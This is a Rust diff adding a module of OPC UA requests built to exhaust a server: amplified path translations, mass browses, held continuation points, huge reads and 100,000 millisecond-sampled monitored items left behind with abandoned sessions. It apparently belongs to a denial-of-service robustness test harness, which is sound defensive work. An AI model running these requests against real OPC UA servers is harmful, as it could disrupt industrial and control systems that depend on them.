@@ -1,0 +1,202 @@
+//! Requests that make the server walk its address space: short to send, long to answer.
+
+use std::time::Duration;
+
+use takt_ua::enumerations::{BrowseDirection, TimestampsToReturn};
+use takt_ua::structures::*;
+use takt_ua::{ByteString, NodeId, QualifiedName, ids};
+
+use super::channel::{Lost, PATIENCE, Session, Way};
+use super::target::Attacker;
+use crate::subject;
+
+/// Encoded bytes of the two elements of [`path`] that are repeated.
+const PAIR: usize = 64;
+
+/// TranslateBrowsePathsToNodeIds with one path of about `bytes`: from DataTypeEncodingType (i=76) to all its instances "Default Binary",
+/// back, and so on. `pipelined` requests wait at the server at any time.
+pub(super) fn translate(
+    attacker: &mut Attacker<'_>,
+    way: Way,
+    bytes: usize,
+    pipelined: usize,
+) -> Result<(), Lost> {
+    let mut session = Session::open(attacker, way)?;
+    let request = TranslateBrowsePathsToNodeIdsRequest {
+        request_header: session.header(),
+        browse_paths: vec![BrowsePath {
+            starting_node: NodeId::numeric(0, ids::DATA_TYPE_ENCODING_TYPE),
+            relative_path: RelativePath {
+                elements: path(attacker.count(bytes) / PAIR),
+            },
+        }],
+    };
+    session.repeat(attacker, &subject::message(&request), pipelined)
+}
+
+/// There and back, so many times.
+fn path(pairs: usize) -> Vec<RelativePathElement> {
+    let element = |is_inverse, name: &str| RelativePathElement {
+        reference_type_id: NodeId::numeric(0, ids::HAS_TYPE_DEFINITION),
+        is_inverse,
+        include_subtypes: false,
+        target_name: QualifiedName::new(0, name),
+    };
+    let pair = [
+        element(true, "Default Binary"),
+        element(false, "DataTypeEncodingType"),
+    ];
+    let length = pair.len() * pairs.max(1);
+    pair.into_iter().cycle().take(length).collect()
+}
+
+fn browse_request(header: RequestHeader, node: u32, times: usize, at_most: u32) -> Vec<u8> {
+    let description = BrowseDescription {
+        node_id: NodeId::numeric(0, node),
+        browse_direction: BrowseDirection::Inverse,
+        result_mask: 63,
+        ..BrowseDescription::default()
+    };
+    subject::message(&BrowseRequest {
+        request_header: header,
+        requested_max_references_per_node: at_most,
+        nodes_to_browse: vec![description; times],
+        ..BrowseRequest::default()
+    })
+}
+
+/// Browse of PropertyType (i=68), which most Properties refer to, 1000 times in each of 24 requests. Nobody reads the answers.
+pub(super) fn browse(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
+    let mut session = Session::open(attacker, way)?;
+    let times = attacker.count(1000);
+    let message = browse_request(session.header(), ids::PROPERTY_TYPE, times, 0);
+    for _ in 0..24 {
+        let sent = session.channel.send(attacker, &message, PATIENCE)?;
+        if !sent || !attacker.goes_on() {
+            break;
+        }
+    }
+    attacker.hold();
+    Ok(())
+}
+
+/// BrowseNext with one reference in each answer, over connections that wait for their answers.
+pub(super) fn browse_next(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
+    let mut sessions = Vec::new();
+    for _ in 0..attacker.count(8) {
+        let mut session = Session::open(attacker, way)?;
+        let points = first_points(attacker, &mut session)?;
+        sessions.push((session, points));
+    }
+    while attacker.goes_on() {
+        for (session, points) in &mut sessions {
+            if points.is_empty() {
+                *points = first_points(attacker, session)?;
+                continue;
+            }
+            let request = BrowseNextRequest {
+                request_header: session.header(),
+                continuation_points: std::mem::take(points),
+                ..BrowseNextRequest::default()
+            };
+            let next: BrowseNextResponse = session.channel.call(attacker, &request)?;
+            *points = left(next.results);
+        }
+    }
+    Ok(())
+}
+
+/// As many ContinuationPoints as a Session gets.
+fn first_points(
+    attacker: &mut Attacker<'_>,
+    session: &mut Session,
+) -> Result<Vec<ByteString>, Lost> {
+    let message = browse_request(session.header(), ids::PROPERTY_TYPE, 16, 1);
+    session.channel.push(attacker, &message)?;
+    let response = session.channel.receive(attacker, PATIENCE)?;
+    let browsed: Result<BrowseResponse, String> = response
+        .as_deref()
+        .map_or_else(|| Err("none came".to_owned()), subject::decode);
+    browsed
+        .map(|browsed| left(browsed.results))
+        .map_err(|reason| Lost::Answer {
+            expected: "BrowseResponse",
+            reason,
+        })
+}
+
+fn left(results: Vec<BrowseResult>) -> Vec<ByteString> {
+    let points = results.into_iter().map(|result| result.continuation_point);
+    points.filter(|point| !point.is_null()).collect()
+}
+
+/// Read of 10 000 Values, each a structure that is made anew. Eight requests wait at any time.
+pub(super) fn read(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
+    let mut session = Session::open(attacker, way)?;
+    let value = ReadValueId {
+        node_id: NodeId::numeric(0, ids::SERVER_SERVER_STATUS),
+        attribute_id: 13,
+        ..ReadValueId::default()
+    };
+    let request = ReadRequest {
+        request_header: session.header(),
+        timestamps_to_return: TimestampsToReturn::Both,
+        nodes_to_read: vec![value; attacker.count(10_000)],
+        ..ReadRequest::default()
+    };
+    session.repeat(attacker, &subject::message(&request), 8)
+}
+
+/// CreateMonitoredItems: 100 000 of them, sampled each millisecond. They are held, or left behind with their Session.
+pub(super) fn monitor(attacker: &mut Attacker<'_>, abandon: bool) -> Result<(), Lost> {
+    let mut session = Session::open(attacker, Way::Tcp)?;
+    let create = CreateSubscriptionRequest {
+        request_header: session.header(),
+        requested_publishing_interval: 100.0,
+        requested_lifetime_count: 30,
+        requested_max_keep_alive_count: 10,
+        publishing_enabled: true,
+        ..CreateSubscriptionRequest::default()
+    };
+    let created: CreateSubscriptionResponse = session.channel.call(attacker, &create)?;
+    let item = |handle: usize| MonitoredItemCreateRequest {
+        item_to_monitor: ReadValueId {
+            node_id: NodeId::numeric(0, ids::SERVER_SERVER_STATUS_CURRENT_TIME),
+            attribute_id: 13,
+            ..ReadValueId::default()
+        },
+        monitoring_mode: takt_ua::enumerations::MonitoringMode::Reporting,
+        requested_parameters: MonitoringParameters {
+            client_handle: u32::try_from(handle).unwrap_or_default(),
+            sampling_interval: 1.0,
+            queue_size: 10,
+            discard_oldest: true,
+            ..MonitoringParameters::default()
+        },
+    };
+    let request = CreateMonitoredItemsRequest {
+        request_header: session.header(),
+        subscription_id: created.subscription_id,
+        timestamps_to_return: TimestampsToReturn::Both,
+        items_to_create: (0..attacker.count(10_000)).map(item).collect(),
+    };
+    let message = subject::message(&request);
+    for _ in 0..10 {
+        session.channel.push(attacker, &message)?;
+        session.channel.receive(attacker, PATIENCE)?;
+    }
+    if abandon {
+        // Without CloseSession.
+        drop(session);
+        attacker.hold();
+        return Ok(());
+    }
+    while attacker.goes_on() {
+        // The Session stays in use; nobody asks for the values.
+        let message = browse_request(session.header(), ids::SERVER, 1, 1);
+        session.channel.push(attacker, &message)?;
+        session.channel.receive(attacker, PATIENCE)?;
+        attacker.wait(Duration::from_millis(200));
+    }
+    Ok(())
+}
